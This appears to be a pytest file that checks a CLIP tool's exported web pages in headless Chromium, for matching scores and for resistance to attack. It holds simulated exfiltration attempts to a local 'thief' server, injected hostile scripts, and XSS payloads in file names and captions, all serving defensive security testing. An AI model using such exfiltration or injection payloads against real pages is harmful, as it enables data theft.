"""`export --format web`: what its pages show, in a real browser, is what `eval-zeroshot` and embeddings say."""

import io
import json
import re
import shutil
import subprocess
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from conftest import Run, embed_with_open_clip, make_caption, make_image
from PIL import Image

from clipcid_cli.formats.report import render_report

BROWSERS = ("chromium", "chromium-browser", "google-chrome")
NAMES = ["blue circle", "l'été", "red square"]
# Wider than high and not, enlarged and reduced, with half a pixel of margin on either side; the height first in the last.
SIZES = ((60, 41), (41, 60), (128, 140), (20, 27), (32, 37), (64, 400))

# A visitor: it opens the page, types the labels, drops one picture after another, and sends home what it sees.
VISITOR = """<!doctype html><body><script type="module">
const { labels, pictures } = await (await fetch("/visit.json")).json();
const frame = document.createElement("iframe"), seen = {};
const opened = new Promise(resolve => frame.addEventListener("load", resolve));
frame.src = "/index.html";
document.body.append(frame);
await opened;
const page = frame.contentDocument, status = page.getElementById("status");
const until = async words => {
  while (!status.textContent.startsWith(words) && !status.classList.contains("error"))
    await new Promise(resolve => setTimeout(resolve, 20));
};
await until("Ready");
page.getElementById("labels").value = labels.join("\\n");
for (const name of pictures) {
  const dropped = new DataTransfer();
  dropped.items.add(new File([await (await fetch(name)).blob()], name));
  status.textContent = "";
  page.dispatchEvent(new frame.contentWindow.DragEvent("drop", { dataTransfer: dropped, cancelable: true }));
  await until("Most like");
  const rows = [...page.querySelectorAll("#answers tbody tr")];
  seen[name] = [status.textContent, ...rows.map(row => [row.cells[0].textContent, +row.cells[3].textContent])];
}
// Under an error stands no table of the picture before.
const damaged = new DataTransfer();
damaged.items.add(new File(["no picture"], "damaged.png"));
page.dispatchEvent(new frame.contentWindow.DragEvent("drop", { dataTransfer: damaged, cancelable: true }));
await until("an error");
seen.damaged = page.getElementById("answers").hidden;
// What a script in the page could try with a picture; each fails, or none has an effect.
const thief = new URLSearchParams(location.search).get("thief"), { contentWindow: window_ } = frame;
const tries = {
  fetch: () => window_.fetch(`${thief}/fetch`, { method: "POST", body: "picture", mode: "no-cors" }),
  beacon: () => window_.navigator.sendBeacon(`${thief}/beacon`, "picture"),
  socket: () => new window_.WebSocket(`${thief.replace("http", "ws")}/socket`),
  image: () => Object.assign(new window_.Image(), { src: `${thief}/image` }),
  frame: () => page.body.insertAdjacentHTML("beforeend", `<iframe src="${thief}/frame"></iframe>`),
  style: () => page.body.insertAdjacentHTML("beforeend", `<style>@import "${thief}/style";</style>`),
  script: () => page.body.append(Object.assign(page.createElement("script"), { textContent: `fetch("${thief}/script")` })),
  module: () => page.body.append(Object.assign(page.createElement("script"), { type: "module", src: `${thief}/module` })),
  form: () => {
    page.body.insertAdjacentHTML("beforeend", `<form action="${thief}/form" target="_blank"><input name="picture"></form>`);
    page.forms[0].submit();
  },
};
for (const attempt of Object.values(tries)) try { await attempt(); } catch {}
await new Promise(resolve => setTimeout(resolve, 1000));
await fetch("/", { method: "POST", body: JSON.stringify(seen) });
</script>"""


# Another: it types texts, asks for more images, and sends home which were shown, each with the width of its thumbnail.
SEARCHER = """<!doctype html><body><script type="module">
const { texts } = await (await fetch("/visit.json")).json();
const frame = document.createElement("iframe"), seen = {};
const opened = new Promise(resolve => frame.addEventListener("load", resolve));
frame.src = "/search.html";
document.body.append(frame);
await opened;
const page = frame.contentDocument, status = page.getElementById("status"), text = page.getElementById("text");
const until = async done => {
  while (!done() && !status.classList.contains("error")) await new Promise(resolve => setTimeout(resolve, 20));
};
const list = () => [...page.querySelectorAll("#answers li")];
const drawn = () => list().every(item => item.querySelector("img").naturalWidth);
await until(() => status.textContent.startsWith("Ready") && drawn());
seen.before = [status.textContent, list().length];
for (const asked of texts) {
  status.textContent = "";
  text.value = asked;
  text.dispatchEvent(new frame.contentWindow.Event("input"));
  await until(() => status.textContent.startsWith("Nearest") && drawn());
  const first = list().length;
  page.getElementById("more").click();
  await until(() => list().length > first && drawn());
  const read = item => ["name", "caption", "cosine"].map(kind => item.querySelector(`.${kind}`).textContent);
  seen[asked] = [status.textContent, first, list().map(item => [...read(item), item.querySelector("img").naturalWidth])];
}
seen.after = [page.getElementById("more").hidden, page.images.length, page.scripts.length];
await fetch("/", { method: "POST", body: JSON.stringify(seen) });
</script>"""


class Host(SimpleHTTPRequestHandler):
    """Serves a folder as any static server does, and keeps what the visitor sends."""

    protocol_version = "HTTP/1.1"

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(204)
        self.end_headers()
        self.server.received.append(json.loads(body))  # type: ignore[attr-defined]
        self.server.done.set()  # type: ignore[attr-defined]

    def do_GET(self) -> None:
        self.server.asked.append(self.path)  # type: ignore[attr-defined]
        super().do_GET()

    def log_message(self, *_: Any) -> None:
        """Say nothing."""


class RangesHost(Host):
    """Sends parts of files, as most servers but Python's do."""

    def do_GET(self) -> None:
        span = re.fullmatch(r"bytes=(\d+)-(\d+)", self.headers.get("Range", ""))
        if span is None:
            super().do_GET()
            return
        self.server.asked.append(self.path)  # type: ignore[attr-defined]
        part = Path(self.translate_path(self.path)).read_bytes()[int(span[1]) : int(span[2]) + 1]
        self.send_response(206)
        self.send_header("Content-Length", str(len(part)))
        self.end_headers()
        self.wfile.write(part)


class Thief(Host):
    """Takes whatever comes."""

    def do_POST(self) -> None:
        self.server.asked.append(self.path)  # type: ignore[attr-defined]
        self.send_response(204)
        self.end_headers()


@contextmanager
def serve(folder: Path, host: type[Host] = Host) -> Iterator[ThreadingHTTPServer]:
    with ThreadingHTTPServer(("127.0.0.1", 0), partial(host, directory=str(folder))) as server:
        server.received, server.asked, server.done = [], [], threading.Event()  # type: ignore[attr-defined]
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join()


def find_browser() -> str:
    browser = next((found for name in BROWSERS if (found := shutil.which(name))), None)
    if browser is None or shutil.which("npm") is None:
        pytest.skip("needs a Chromium and npm on the PATH")
    return browser


def visit(
    folder: Path, visitor: str, asked: dict[str, list[str]], profile: Path, host: type[Host] = Host
) -> tuple[dict[str, Any], list[str], list[str]]:
    """Send a visitor to a page of a folder in a browser, and let it try to send what it sees to another server.

    Returns:
        What the page answers, what the server was asked for, and what the other server was asked for.
    """
    (folder / "visit.html").write_text(visitor)
    (folder / "visit.json").write_text(json.dumps(asked))
    command = [
        find_browser(),
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        f"--user-data-dir={profile}",
        "--remote-debugging-port=0",
    ]
    with serve(folder, host) as server, serve(profile, Thief) as thief:
        url = f"http://127.0.0.1:{server.server_port}/visit.html?thief=http://127.0.0.1:{thief.server_port}"
        with subprocess.Popen([*command, url], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as process:
            try:
                assert server.done.wait(120), "the browser did not come back"  # type: ignore[attr-defined]
            finally:
                process.terminate()
        (seen,) = server.received  # type: ignore[attr-defined]
        return dict(seen), list(server.asked), list(thief.asked)  # type: ignore[attr-defined]


@pytest.mark.slow  # starts a browser, and npm fetches 33 MB the first time
def test_the_page_shows_the_scores_of_eval(
    clipcid: Callable[..., Run], tiny_model: Path, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    find_browser()
    for number, size in enumerate(SIZES):
        folder = tmp_path / "pictures" / NAMES[number % 3]
        folder.mkdir(parents=True, exist_ok=True)
        picture = Image.open(io.BytesIO(make_image(number, 64))).resize(size)
        if size[1] > 4 * size[0]:  # black and white pixels show in which order sides are resized
            noise = np.random.default_rng(number).random((size[1], size[0])) < 0.5
            picture = Image.fromarray(noise).convert("RGB")
        picture.save(folder / f"{number}.jpg", quality=90)
        picture.putalpha(Image.linear_gradient("L").resize(size))
        picture.save(folder / f"{number}-sticker.png")
    clipcid("eval-zeroshot", tiny_model, "pictures", "--predictions")
    (answers,) = (tmp_path / "clipcid-work" / "eval" / "sidecars").glob("*.predictions.parquet")
    clipcid("export", tiny_model, "--format", "web", "--out", "out")
    # The folder alone, on another server.
    site = shutil.copytree(tmp_path / "out" / "web", tmp_path / "site")
    assert (tmp_path / "out" / "web" / "image_encoder.onnx").samefile(tmp_path / "out" / "image_encoder.onnx")
    pictures = {
        path.relative_to(tmp_path / "pictures").as_posix(): path for path in (tmp_path / "pictures").glob("*/*")
    }
    for path in pictures.values():
        shutil.copy(path, site)
    names = [path.name for path in pictures.values()]
    asked = {"labels": NAMES, "pictures": names}
    seen, _, stolen = visit(site, VISITOR, asked, tmp_path_factory.mktemp("profile"))
    assert not stolen
    assert seen["damaged"]
    for row in pq.read_table(answers).to_pylist():
        (name,) = (path.name for key, path in pictures.items() if key.rsplit(".", 1)[0] == row["key"])
        status, *shown = seen[name]
        assert status == f"Most like: {NAMES[row['predicted']]}"
        expected = {NAMES[place]: score for place, score in zip(row["top"], row["scores"], strict=True)}
        assert dict(shown) == pytest.approx(expected, abs=1e-3)


@pytest.mark.slow  # starts a browser twice, and npm fetches 33 MB the first time
def test_the_page_finds_the_images_that_embeddings_do(
    clipcid: Callable[..., Run], tiny_model: Path, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    find_browser()
    (tmp_path / "pictures").mkdir()
    images = [make_image(number, 40 + number) for number in range(30)]
    names = ["pictures/<img src=x onerror=alert(1)>.png", *(f"pictures/{number}.png" for number in range(1, 30))]
    captions = ["</script><script>alert(2)</script>", *map(make_caption, range(1, 30))]
    for name, image in zip(names, images, strict=True):
        (tmp_path / name).write_bytes(image)
    pq.write_table(pa.table({"filepath": names, "title": captions}), tmp_path / "list.parquet")
    call = ("export", tiny_model, "--format", "web", "--search-images", "list.parquet", "--out", "out")
    exported = clipcid(*call, "--json")
    assert exported.json["parity"]["search"]["images"] == 30
    assert exported.json["parity"]["search"]["agreement"] == 1
    assert exported.json["parity"]["search"]["max_cosine_difference"] < 1e-4
    site = tmp_path / "out" / "web"
    page = (site / "search.html").read_text()
    assert "pictures/" not in page
    texts = ["a red square", "blue", "<b>l'été</b>"]
    image_rows, text_rows = embed_with_open_clip(tiny_model, images, texts)
    for host in (Host, RangesHost):
        seen, asked, _ = visit(site, SEARCHER, {"texts": texts}, tmp_path_factory.mktemp("profile"), host)
        assert seen["before"] == ["Ready. Type what to look for among 30 images.", 24]
        assert seen["after"] == [True, 30, 1]
        for text, cosines in zip(texts, (text_rows @ image_rows.T).tolist(), strict=True):
            status, first, shown = seen[text]
            assert (status, first) == (f"Nearest of 30 images: {text}", 24)
            order = [names.index(name) for name, *_ in shown]
            assert sorted(order) == list(range(30))
            assert [cosines[number] for number in order] == pytest.approx(sorted(cosines, reverse=True), abs=1e-4)
            for number, (_, caption, cosine, width) in zip(order, shown, strict=True):
                assert (caption, width) == (captions[number], 40 + number)
                assert float(cosine) == pytest.approx(cosines[number], abs=1e-3)
        thumbnails = asked.count("/search_thumbnails.bin")
        assert thumbnails == (30 if host is RangesHost else 1)


@pytest.mark.slow  # starts a browser
def test_a_report_loads_and_sends_nothing(tmp_path: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    browser = next((found for name in BROWSERS if (found := shutil.which(name))), None)
    if browser is None:
        pytest.skip("needs a Chromium on the PATH")
    page = render_report("eval_zeroshot.html", tables=[], details=[])
    asked = {}
    for name in ("with", "without"):
        with serve(tmp_path, Thief) as thief:
            url = f"http://127.0.0.1:{thief.server_port}"
            hostile = (
                f'<script>fetch("{url}/script")</script><img src="{url}/image"><link rel=stylesheet href={url}/css>'
            )
            shown = page.replace("</body>", f"{hostile}</body>")
            if name == "without":
                shown = re.sub("<meta http-equiv.*>", "", shown)
            report = tmp_path / f"{name}.html"
            report.write_text(shown)
            profile = tmp_path_factory.mktemp("profile")
            command = [
                browser,
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                f"--user-data-dir={profile}",
                "--dump-dom",
            ]
            done = subprocess.run([*command, report.as_uri()], capture_output=True, text=True, timeout=120, check=True)
            assert "Zero-shot evaluation" in done.stdout
            asked[name] = sorted(thief.asked)  # type: ignore[attr-defined]
    assert asked == {"with": [], "without": ["/css", "/image", "/script"]}
